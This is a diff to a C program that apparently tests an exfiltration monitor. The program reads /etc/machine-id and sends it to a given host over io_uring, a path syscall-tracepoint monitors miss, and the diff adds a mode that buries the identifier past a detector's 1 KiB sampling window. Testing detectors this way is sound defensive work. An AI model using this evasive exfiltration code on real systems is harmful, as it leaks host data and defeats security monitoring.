@@ -2,7 +2,8 @@
 /* uring_leak: reads /etc/machine-id and sends it to ADDR:PORT using io_uring only (open, read,
  * connect, send), the path syscall-tracepoint monitors do not see. With a third argument, "send"
  * or "write", it connects (connect(2)) before it reads the identifier, then sends with that
- * io_uring op: a connection made before the taint. */
+ * io_uring op: a connection made before the taint. With "long", it sends 3,000 bytes with the
+ * identifier 2,000 bytes in: past the first sample (1 KiB by default). */
 #include <arpa/inet.h>
 #include <fcntl.h>
 #include <liburing.h>
@@ -29,7 +30,10 @@ int main(int argc, char **argv)
 	struct sockaddr_in sa = { .sin_family = AF_INET };
 	struct io_uring ring;
 	struct io_uring_sqe *sqe;
-	const char *early = argc == 4 ? argv[3] : NULL;
+	const char *mode = argc == 4 ? argv[3] : NULL;
+	int longsend = mode && !strcmp(mode, "long");
+	const char *early = longsend ? NULL : mode;
+	static char big[3000];
 	char buf[128];
 	int fd, sock = -1, n;
 
@@ -59,10 +63,16 @@ int main(int argc, char **argv)
 			return 4;
 	}
 	sqe = io_uring_get_sqe(&ring);
-	if (early && !strcmp(early, "write"))
+	if (longsend) {
+		memset(big, 'z', sizeof(big));
+		memcpy(big + 2000, buf, n);
+		n = sizeof(big);
+		io_uring_prep_send(sqe, sock, big, n, 0);
+	} else if (early && !strcmp(early, "write")) {
 		io_uring_prep_write(sqe, sock, buf, n, 0);
-	else
+	} else {
 		io_uring_prep_send(sqe, sock, buf, n, 0);
+	}
 	if (run(&ring, sqe) != n)
 		return 5;
 	printf("%d\n", getpid());
